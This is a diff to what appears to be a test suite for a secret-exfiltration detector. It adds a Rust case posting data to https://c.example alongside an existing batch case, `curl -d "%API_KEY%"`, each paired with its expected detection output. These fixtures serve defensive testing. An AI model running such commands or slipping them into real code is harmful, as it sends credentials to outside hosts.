@@ -144,6 +144,11 @@ describe("what leaves, and to whom", () => {
       "1:56 channel=http destination=https://c.example payload=[~□<environment:API_KEY>]",
     ],
     [
+      "rust",
+      `fn main() { let mut u=""; u="https://c.example"; reqwest::blocking::Client::new().post(u).body(k).send(); }`,
+      "1:50 channel=http destination=https://c.example payload=[~□]",
+    ],
+    [
       "batch",
       `curl -d "%API_KEY%" https://c.example`,
       "1:1 channel=http destination=https://c.example payload=[~□<environment:API_KEY>]",
